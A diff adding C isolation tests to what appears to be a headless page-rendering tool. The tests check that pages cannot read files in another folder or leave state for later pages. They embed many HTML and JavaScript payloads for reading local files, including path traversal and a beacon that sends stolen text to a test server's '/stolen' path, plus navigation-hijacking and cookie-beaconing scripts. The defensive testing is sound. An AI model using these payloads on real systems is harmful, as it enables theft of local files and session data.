@@ -2,6 +2,7 @@
 #include <ftw.h>
 #include <glib/gstdio.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "run.h"
 #include "server.h"
@@ -229,6 +230,261 @@ test_scripts_off (void)
   g_assert_cmpuint (ran, >, G_N_ELEMENTS (late_forms));
 }
 
+/* --- files --- */
+
+/* Ways to a file in another folder.  @S@ is that folder as an address, @T@ a page beside that sends the reader on to
+ * it, @R@ a script that tells the server what it has read. */
+static const char *const file_forms[] = {
+  "<iframe src='@S@/secret.txt' onload='@R@(this.contentDocument.body.textContent)'></iframe>",
+  "<iframe src='@S@/secret.html'></iframe>",
+  "<iframe src='@S@/secret.txt'></iframe>",
+  "<iframe src='@S@/../@L@/secret.html'></iframe>",
+  "<iframe src='@S@/%2e%2e/@L@/secret.html'></iframe>",
+  "<iframe src='link.html'></iframe>",
+  "<iframe srcdoc='<iframe src=\"@S@/secret.html\"></iframe>'></iframe>",
+  "<iframe sandbox='allow-scripts' src='@S@/secret.html'></iframe>",
+  "<iframe src='@T@'></iframe>",
+  "<object data='@S@/secret.html' type='text/html'></object>",
+  "<object data='@S@/secret.txt'></object>",
+  "<object data='@S@/secret.svg' type='image/svg+xml'></object>",
+  "<embed src='@S@/secret.html'>",
+  "<embed src='@S@/secret.svg'>",
+  "<meta http-equiv=refresh content='0;url=@S@/secret.html'>",
+  "<meta http-equiv=refresh content='0.3;url=@S@/secret.txt'>",
+  "<meta http-equiv=refresh content='0;url=@T@'>",
+  "<script>location.href = '@S@/secret.html'</script>",
+  "<script>setTimeout(() => location.replace('@S@/secret.html'), 200)</script>",
+  "<script>open('@S@/secret.html', '_self')</script>",
+  "<form id=f action='@S@/secret.html'></form><script>f.submit()</script>",
+  "<a id=a href='@S@/secret.html'>x</a><script>a.click()</script>",
+  "<iframe name=n></iframe><form id=f target=n action='@S@/secret.html'></form><script>f.submit()</script>",
+  "<link rel=stylesheet href='@S@/secret.css'><p class=secret>",
+  "<style>@import '@S@/secret.css';</style><p class=secret>",
+  "<style>p { background: url('@S@/secret.svg') }</style><p>",
+  "<link rel=stylesheet href='@S@/../@L@/secret.css'><p class=secret>",
+  "<script src='@S@/secret.js'></script>",
+  "<script type=module src='@S@/secret.js'></script>",
+  "<script type=module>import('@S@/secret.js').then(() => 0, () => 0)</script>",
+  "<img src='@S@/secret.svg' onload='@R@(naturalWidth)'>",
+  "<svg><use href='@S@/secret.svg#t'></use><image href='@S@/secret.svg' onload='@R@(1)'></image></svg>",
+  "<script>fetch('@S@/secret.txt').then((r) => r.text()).then((t) => @R@(t), () => 0)</script>",
+  "<script>const x = new XMLHttpRequest(); x.onload = () => @R@(x.responseText); x.open('GET', '@S@/secret.txt');"
+  "x.send()</script>",
+  "<script>try { const x = new XMLHttpRequest(); x.open('GET', '@S@/secret.txt', false); x.send(); @R@(x.responseText) "
+  "}"
+  "catch (e) { }</script>",
+  "<script>try { new Worker('@S@/secret.js').onmessage = (e) => @R@(e.data) } catch (e) { }</script>",
+  "<script>document.documentElement.remove(); onload = () => fetch('@S@/secret.txt').then((r) => r.text())"
+  ".then((t) => @R@(t))</script><meta http-equiv=refresh content='0.1'>",
+  "<script>document.documentElement.innerHTML = ''</script><meta http-equiv=refresh content='0.1'>"
+  "<script>fetch('@S@/secret.txt').then((r) => r.text()).then((t) => @R@(t))</script><iframe src='@S@/secret.html'>",
+  "<video src='@S@/secret.svg' poster='@S@/secret.svg'></video><track src='@S@/secret.txt'>",
+  "<link rel=preload as=fetch href='@S@/secret.txt'><link rel=prefetch href='@S@/secret.html'>"
+  "<input type=image src='@S@/secret.svg' onload='@R@(1)'><table background='@S@/secret.svg'>",
+};
+
+static void
+write_secrets (void)
+{
+  static const char *const names[][2] = {
+    { "txt", SECRET },
+    { "html", "<!doctype html><p>" SECRET "</p>" },
+    { "svg",
+      "<svg xmlns='http://www.w3.org/2000/svg' width='99' height='99'><text id='t' y='20'>" SECRET "</text></svg>" },
+    { "css", ".secret::after { content: '" SECRET "' } .secret { width: 4242px }" },
+    { "js", "document.body.append('" SECRET "')" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    {
+      g_autofree char *name = g_strdup_printf ("other/secret.%s", names[i][0]);
+
+      write_page (name, names[i][1]);
+    }
+}
+
+/* Files of another folder reach no page, local or not, in no result and at no server, with and without scripts. */
+static void
+test_files (void)
+{
+  const char *const off[] = { "--no-javascript", NULL };
+  g_autoptr (GString) list = g_string_new (NULL);
+  g_autofree char *origin = test_server_uri (server, 0, ""), *path = g_build_filename (root, "other", NULL);
+  g_autofree char *secrets = g_filename_to_uri (path, NULL, NULL), *link = NULL, *control = NULL, *log = NULL;
+
+  write_secrets ();
+  for (guint i = 0; i < G_N_ELEMENTS (file_forms); i++)
+    {
+      g_autofree char *name = g_strdup_printf ("site/%u.html", i);
+      const char *const words[] = {
+        "@S@",       secrets,    "@L@", "other",
+        "@T@",       "hop.html", "@R@", "((t) => { (new Image).src = \"@ORIGIN0@/stolen/\" + t })",
+        "@ORIGIN0@", origin,     NULL
+      };
+      g_autofree char *html = g_strconcat ("<!doctype html><title>Files</title><p>Own text</p>", file_forms[i], NULL);
+      g_autofree char *page = fill (html, words);
+
+      write_page (name, page);
+      g_string_append_printf (list, "%s/%s\n", root, name);
+      /* for a server a link is its own affair */
+      if (strstr (file_forms[i], "link.html") == NULL)
+        g_string_append_printf (list, "%s/%s\n", origin, name);
+    }
+  {
+    const char *const words[] = { "@S@", secrets, NULL };
+    g_autofree char *page = fill ("<!doctype html><meta http-equiv=refresh content='0;url=@S@/secret.html'><iframe "
+                                  "src='@S@/secret.txt'></iframe><p>Own text",
+                                  words);
+
+    write_page ("site/hop.html", page);
+  }
+  link = g_build_filename (root, "site", "link.html", NULL);
+  control = g_build_filename (path, "secret.html", NULL);
+  g_assert_cmpint (symlink (control, link), ==, 0);
+
+  test_server_reset (server);
+  for (guint i = 0; i < 2; i++)
+    {
+      g_autoptr (GHashTable) results = run_batch (list->str, i == 0 ? NULL : off);
+      GHashTableIter iter;
+      gpointer input, result;
+
+      g_assert_cmpuint (g_hash_table_size (results), ==, 2 * G_N_ELEMENTS (file_forms) - 1);
+      g_hash_table_iter_init (&iter, results);
+      while (g_hash_table_iter_next (&iter, &input, &result))
+        {
+          const char *text = text_at (results, input, "content", "text");
+          const char *title = text_at (results, input, NULL, "title");
+
+          if ((text != NULL && strstr (text, SECRET) != NULL) || (title != NULL && strstr (title, SECRET) != NULL))
+            g_test_fail_printf ("%s shows the secret: %s", (char *) input, text);
+          if (text == NULL || strstr (text, "Own text") == NULL)
+            g_test_fail_printf ("%s lost its own text: %s", (char *) input,
+                                text_at (results, input, "error", "message"));
+        }
+    }
+  log = test_server_log (server);
+  if (test_server_count (server, "/stolen") != 0)
+    g_test_fail_printf ("it was told: %s", log);
+}
+
+/* In the folder of the page all of that is there. */
+static void
+test_own_files (void)
+{
+  g_autofree char *page = g_build_filename (root, "other", "page.html", NULL);
+  g_autofree char *list = g_strconcat (page, "\n", NULL);
+  g_autoptr (GHashTable) results = NULL;
+  const char *text;
+
+  write_secrets ();
+  write_page ("other/page.html", "<!doctype html><link rel=stylesheet href=secret.css><p class=secret>Own</p>"
+                                 "<iframe src=secret.html></iframe><body><script src=secret.js></script>");
+  results = run_batch (list, NULL);
+  text = text_at (results, page, "content", "text");
+  g_assert_nonnull (text);
+  g_assert_nonnull (strstr (text, "Own"));
+  /* from the frame and by the script */
+  g_assert_nonnull (strstr (text, SECRET));
+  g_assert_nonnull (strstr (strstr (text, SECRET) + 1, SECRET));
+}
+
+/* --- from page to page --- */
+
+#define PAGES 60 /* of a run, every third of them hostile */
+
+/* What would give its own text out as that of the next pages, or leave something to them. */
+static const char *const hostile_forms[] = {
+  "setInterval(() => { location.href = '/evil.html?' + Math.random() }, 1)",
+  "setInterval(() => { document.open(); document.write('<title>EVIL</title>EVIL'); document.close() }, 1)",
+  "addEventListener('pagehide', () => { for (;;); })",
+  "onunload = () => { for (;;); }; onbeforeunload = () => 'stay'",
+  "setInterval(() => { location.href = 'about:blank' }, 1)",
+  "setInterval(() => { history.pushState(1, '', '?' + Math.random()); history.back() }, 1)",
+  "const c = new BroadcastChannel('left'); setInterval(() => c.postMessage('left'), 1)",
+  "setTimeout(() => { setInterval(() => { location.replace('/evil.html') }, 0) }, 250)",
+  "addEventListener('pagehide', () => { navigator.sendBeacon('/cookie'); fetch('/cookie', { keepalive: true }) })",
+  "const f = document.createElement('iframe'); f.srcdoc = '<script>setInterval(() => { top.location = `/evil.html` }, "
+  "1)"
+  "<\\/script>'; document.body.append(f)",
+  "onpagehide = () => { location.href = '/evil.html'; open('/evil.html', '_self') }",
+  "setInterval(() => open('/evil.html', 'left'), 5)",
+};
+
+/* Looks for what pages before it left, says so, and leaves the same. */
+static const char good_page[] =
+    "<!doctype html><title>Good @N@</title><link rel=stylesheet href=/shared.css><p id=text>Good @N@ begins</p><script>"
+    "const dirty = [];"
+    "if (document.cookie) dirty.push('cookie ' + document.cookie);"
+    "if (localStorage.left) dirty.push('localStorage');"
+    "if (sessionStorage.left) dirty.push('sessionStorage');"
+    "if (window.name) dirty.push('name');"
+    "if (window.opener) dirty.push('opener');"
+    "if (window.BroadcastChannel) new BroadcastChannel('left').onmessage = () => dirty.push('broadcast');"
+    "if (window.SharedWorker) { const w = new SharedWorker('/shared.js');"
+    " w.port.onmessage = (e) => { if (e.data > 1) dirty.push('worker ' + e.data) }; w.port.start() }"
+    "const q = indexedDB.open('left'); let isNew = false; q.onupgradeneeded = () => { isNew = true };"
+    "q.onsuccess = () => { if (!isNew) dirty.push('indexedDB') };"
+    "setTimeout(() => { document.getElementById('text').textContent ="
+    " 'Good @N@ ' + (dirty.length ? 'finds ' + dirty.join() : 'finds nothing') }, 150);"
+    "document.cookie = 'left=1; path=/'; localStorage.left = sessionStorage.left = '1'; window.name = 'left';"
+    "</script>";
+
+static void
+run_pages (guint round)
+{
+  g_autoptr (GString) list = g_string_new (NULL);
+  g_autoptr (GHashTable) results = NULL;
+  guint good = 0;
+
+  for (guint i = 0; i < PAGES; i++)
+    {
+      g_autofree char *number = g_strdup_printf ("%u-%u", round, i), *name = g_strdup_printf ("page-%u.html", i);
+      const char *const words[] = { "@N@", number, NULL };
+      g_autofree char *page = fill (good_page, words);
+      g_autofree char *path = g_strconcat ("/", name, NULL), *uri = test_server_uri (server, i / 2 % 2, path);
+      g_autofree char *evil =
+          g_strdup_printf ("<!doctype html><title>EVIL</title><body>EVIL<script>document.cookie = 'left=1; path=/';"
+                           "localStorage.left = window.name = '1'; indexedDB.open('left');"
+                           "new SharedWorker('/shared.js');</script><script>%s</script>",
+                           hostile_forms[(i / 3 + round) % G_N_ELEMENTS (hostile_forms)]);
+
+      write_page (name, i % 3 == 1 ? evil : page);
+      g_string_append_printf (list, "%s\n", uri);
+    }
+  test_server_reset (server);
+  results = run_batch (list->str, NULL);
+  for (guint i = 0; i < PAGES; i++)
+    {
+      g_autofree char *path = g_strdup_printf ("/page-%u.html", i), *uri = test_server_uri (server, i / 2 % 2, path);
+      g_autofree char *text = g_strdup_printf ("Good %u-%u finds nothing\n", round, i);
+      const char *shown = text_at (results, uri, "content", "text"),
+                 *problem = text_at (results, uri, "error", "message");
+
+      if (i % 3 == 1)
+        continue;
+      good++;
+      if (g_strcmp0 (text_at (results, uri, NULL, "status"), "ok") != 0
+          || g_strcmp0 (text_at (results, uri, NULL, "url"), uri) != 0 || g_strcmp0 (shown, text) != 0)
+        g_test_fail_printf ("%s after \"%s\": %s%s", uri,
+                            hostile_forms[((i - 1) / 3 + round) % G_N_ELEMENTS (hostile_forms)],
+                            shown != NULL ? shown : "", problem != NULL ? problem : "");
+    }
+  /* none had it from the page before */
+  g_assert_cmpuint (test_server_count (server, "/shared.css"), >=, good);
+}
+
+/* Of hostile and good pages in turn, on two servers, each good one gives its own text, and finds nothing of another. */
+static void
+test_pages (void)
+{
+  write_page ("evil.html", "<!doctype html><title>EVIL</title>EVIL");
+  write_page ("shared.css", "p { color: blue }");
+  write_page ("shared.js", "let n = 0; onconnect = (e) => e.ports[0].postMessage(++n)");
+  for (guint round = 0; round < (g_test_thorough () ? 5 : 1); round++)
+    run_pages (round);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -241,6 +497,9 @@ main (int argc, char **argv)
   g_chmod (root, 0755);
   server = test_server_new (root);
   g_test_add_func ("/isolation/scripts-off", test_scripts_off);
+  g_test_add_func ("/isolation/files", test_files);
+  g_test_add_func ("/isolation/own-files", test_own_files);
+  g_test_add_func ("/isolation/pages", test_pages);
   status = g_test_run ();
   test_server_free (server);
   remove_folder (root);
